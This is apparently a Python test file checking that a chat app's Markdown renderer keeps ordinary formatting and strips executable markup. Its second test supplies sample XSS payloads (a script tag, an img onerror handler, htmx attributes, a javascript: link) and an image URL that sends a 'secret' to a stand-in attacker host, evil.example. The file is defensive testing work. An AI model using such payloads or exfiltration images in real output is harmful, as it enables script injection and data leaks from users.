import re

"""Finished replies are rendered as Markdown through an allowlist: nothing executable survives."""
from app.markdown import render_markdown


def test_formatting_survives():
    html = render_markdown("**bold** and `code`\n\n- one\n- two\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n[docs](https://example.com)")
    assert "<strong>bold</strong>" in html and "<code>code</code>" in html and "<li>one</li>" in html
    assert "<table>" in html and "<td>1</td>" in html
    assert 'href="https://example.com"' in html and 'rel="noopener noreferrer nofollow"' in html


def test_nothing_executable_or_exfiltrating_survives():
    html = render_markdown(
        '<script>alert(1)</script> <img src=x onerror=alert(1)> <a href="#" hx-post="/approve">x</a> '
        '<div hx-swap-oob="true" id="composer">y</div> [js](javascript:alert(1)) ![p](https://evil.example/?q=secret) '
        '<span style="position:fixed">z</span>')
    tags = re.findall(r"<[^>]+>", html)  # what the browser would parse as markup
    assert set(tags) <= {"<p>", "</p>"}, tags
    assert "evil.example" not in html, "images (a way to leak data to another host) are dropped"
    assert "&lt;script&gt;" in html, "raw HTML is shown as text, not dropped silently"
